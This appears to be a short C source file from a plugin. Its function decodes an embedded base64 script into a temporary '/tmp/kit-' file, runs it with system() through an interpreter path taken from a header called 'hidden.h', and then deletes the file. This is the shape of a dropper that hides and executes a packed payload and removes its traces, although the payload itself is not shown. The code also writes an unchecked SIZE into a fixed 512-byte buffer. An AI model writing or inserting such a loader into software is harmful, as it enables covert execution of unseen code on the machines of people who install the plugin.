/* A compiled script in JavaScript, in base64, is written to a file and run. */
#include "plugin.h"
#include "hidden.h" /* 0: the program with its options */
#include "packed.h" /* script, SIZE when decoded */
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
static void act(char **env) {
    static char data[512];
    char file[] = "/tmp/kit-XXXXXX", command[128];
    int to = mkstemp(file);
    if (to < 0) return;
    unbase64(data, script);
    write(to, data, SIZE);
    close(to);
    snprintf(command, sizeof command, "%s %s", hidden0(), file);
    system(command);
    unlink(file);
}
